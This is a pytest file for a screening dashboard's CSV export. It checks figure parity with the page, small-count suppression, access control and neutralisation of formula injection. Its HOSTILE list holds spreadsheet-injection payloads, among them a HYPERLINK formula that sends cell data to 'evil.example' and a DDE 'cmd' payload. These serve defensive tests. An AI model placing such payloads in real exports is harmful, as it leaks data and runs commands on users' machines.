"""The dashboard's CSV export: the same figures and suppression as the page, and inert cells."""

import csv
import datetime
import io
import unicodedata

import pytest

from screening.dashboard.export import neutralise
from tests.conftest import count_usage, make_indicator, make_record, sign_in
from tests.dashboard import test_dashboard
from tests.dashboard.test_dashboard import EXPORT, FEWER, URL, quarter_block, table_rows

# The same known quarter as the page's tests.
known = test_dashboard.known
sparse = test_dashboard.sparse

HIDDEN = "not shown to protect a small cell"

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTabbed",
    "\rReturned",
    "\n=1+1",
    "  =1+1",
    '\uff1dHYPERLINK("http://evil.example/")',
]


def inert(cell: str) -> bool:
    """What a spreadsheet would not run: no formula start, even past spaces or fullwidth."""
    first = unicodedata.normalize("NFKC", cell.lstrip()[:1])
    return not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) and first not in {
        "=",
        "+",
        "-",
        "@",
    }


def rows_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def figures_of(response) -> list[list[str]]:
    return quarter_block(rows_of(response))


def test_it_downloads_a_csv_file(supervisor_client, known):
    response = supervisor_client.get(EXPORT, {"period": "2026-Q2"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="usage-2026-Q2.csv"'
    assert "no-store" in response["Cache-Control"]
    assert ["Quarter", "Quarter 2 of 2026"] in rows_of(response)


def test_it_holds_the_same_figures_as_the_page(supervisor_client, known):
    params = {"period": "2026-Q2", "region": "north"}
    page = supervisor_client.get(URL, params)
    export = figures_of(supervisor_client.get(EXPORT, params))
    assert ["Checklists completed", "", "", "Checklists", "12", ""] in export
    assert ["With immediate danger flagged", "", "", "Percent of checklists", "42", ""] in export
    by_setting = {
        item: value or why
        for figure, _, item, _, value, why in export
        if figure == "Checklists by where the child was met"
    }
    page_rows = table_rows(page, "by-setting-heading")
    assert by_setting == {label: cells[0] for label, cells in page_rows.items()}


def test_small_counts_are_suppressed_as_on_the_page(supervisor_client, sparse):
    page = supervisor_client.get(URL, {"period": "2026-Q2"})
    export = figures_of(supervisor_client.get(EXPORT, {"period": "2026-Q2"}))
    by_region = {
        item: (value, why)
        for figure, _, item, _, value, why in export
        if figure == "Checklists by region"
    }
    assert by_region["East Province"] == ("", FEWER)
    page_text = {"not shown": HIDDEN}
    assert by_region == {
        label: ("", page_text.get(cells[0], cells[0])) if not cells[0].isdigit() else (cells[0], "")
        for label, cells in table_rows(page, "by-region-heading").items()
    }
    # Every figure of the page's tables appears in the export: the same number, or empty with
    # the reason the page gives.
    html = page.content.decode()
    for figure, *_, value, why in export:
        if figure.startswith("Checklists by"):
            text = value or {HIDDEN: "not shown"}.get(why, why)
            assert f'<td class="num">{text}</td>' in html
    total = int(next(v for f, *_, v, _why in export if f == "Checklists completed"))
    shown = [int(v) for v, _why in by_region.values() if v]
    assert total - sum(shown) >= 5, "the hidden regions together hold at least the threshold"


def test_a_small_group_exports_no_figure(supervisor_client, sparse):
    export = figures_of(supervisor_client.get(EXPORT, {"period": "2026-Q2", "region": "east"}))
    assert export == [["Checklists completed", "", "", "Checklists", "", FEWER]]


@pytest.mark.parametrize("title", HOSTILE)
def test_a_hostile_indicator_title_is_neutralised(supervisor_client, content, title):
    section = content["sections"][0]
    hostile = make_indicator(section, "hostile", text=title)
    for _ in range(6):
        make_record(
            day=datetime.date(2026, 5, 4), region=content["region"], answers={hostile: "yes"}
        )
    count_usage()
    response = supervisor_client.get(EXPORT, {"period": "2026-Q2"})
    rows = figures_of(response)
    items = {item for figure, _, item, *_ in rows if figure == "Indicators noted"}
    assert items == {"'" + f"{title} (version 1)"}
    for row in rows_of(response):
        for cell in row:
            assert inert(cell), cell


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", "'=1+1"), ("-5", "'-5"), ("@x", "'@x"), ("\t1", "'\t1"), ("12", "12"), ("", "")],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("+1", "'+1"),
        ("\r=1", "'\r=1"),
        ("\n=1+1", "'\n=1+1"),
        ("\nplain", "'\nplain"),
        (" =1+1", "' =1+1"),
        ("   +1", "'   +1"),
        (" \t -1", "' \t -1"),
        ("\u3000@x", "'\u3000@x"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20x", "'\uff20x"),
        (" \uff1d1", "' \uff1d1"),
        ("  plain words", "  plain words"),
        ("a=1", "a=1"),
        ("   ", "   "),
    ],
)
def test_neutralise_looks_past_spaces_line_breaks_and_fullwidth_forms(value, expected):
    assert neutralise(value) == expected


def test_export_is_refused_to_others(client, worker, editor, known):
    assert client.get(EXPORT).status_code == 302
    sign_in(client, worker)
    assert client.get(EXPORT).status_code == 403
    sign_in(client, editor)
    assert client.get(EXPORT).status_code == 403


def test_a_region_limited_export_has_only_those_regions(client, known):
    from screening.models import SupervisorScope
    from tests.conftest import make_user

    limited = make_user("limited-csv", "Supervisors")
    SupervisorScope.objects.create(user=limited).regions.set([known["other_region"]])
    sign_in(client, limited)
    text = client.get(EXPORT, {"period": "2026-Q2"}).content.decode()
    assert "North Province" not in text
    assert "Checklists completed,,,Checklists,10,\r\n" in text


@pytest.mark.parametrize("hostile", HOSTILE)
def test_every_editor_written_label_is_neutralised(supervisor_client, content, hostile):
    region, section = content["region"], content["sections"][0]
    region.name_en = f"{hostile} region"
    region.save()
    section.title_en = f"{hostile} section"
    section.save()
    for _ in range(6):
        make_record(
            day=datetime.date(2026, 5, 4),
            region=region,
            answers={content["indicators"]["venue"]: "yes"},
            contact_kinds=("child_helpline",),
        )
    count_usage()
    rows = rows_of(supervisor_client.get(EXPORT, {"period": "2026-Q2"}))
    cells = {cell for row in rows for cell in row}
    # Each label is there, made inert: a region name as an item, a section title as a group.
    assert f"'{hostile} region" in cells
    assert f"'{hostile} section" in cells
    for cell in cells:
        assert inert(cell), cell


def test_the_export_is_never_cached_by_the_view_itself(supervisor_client, known):
    # never_cache on the view, not only the middleware's fallback "no-store" for /dashboard/.
    response = supervisor_client.get(EXPORT, {"period": "2026-Q2"})
    directives = {part.strip() for part in response["Cache-Control"].split(",")}
    assert {"no-store", "no-cache", "must-revalidate", "private", "max-age=0"} <= directives
    assert "Expires" in response


def test_the_export_needs_the_second_factor(client, supervisor):
    # Signed in with a password only: the CSV itself sends them to the second factor.
    client.force_login(supervisor)
    response = client.get(EXPORT, {"period": "2026-Q2"})
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/two-factor/")
    assert "next=%2Fdashboard%2Fexport.csv" in response["Location"]
    assert not response.get("Content-Type", "").startswith("text/csv")


def test_the_count_column_holds_only_numbers_and_the_reason_is_apart(supervisor_client, sparse):
    rows = rows_of(supervisor_client.get(EXPORT, {"period": "2026-Q2"}))
    assert ["Figure", "Group", "Item", "Measure", "Count", "Why not shown"] in rows
    export = figures_of(supervisor_client.get(EXPORT, {"period": "2026-Q2"}))
    reasons = set()
    for row in export:
        assert len(row) == 6, row
        value, why = row[4], row[5]
        if value:
            assert value.isdigit(), row
            assert why == "", row
        else:
            assert why in {FEWER, HIDDEN}, row
            reasons.add(why)
    assert reasons == {FEWER, HIDDEN}, "the sparse quarter has both kinds of hidden count"
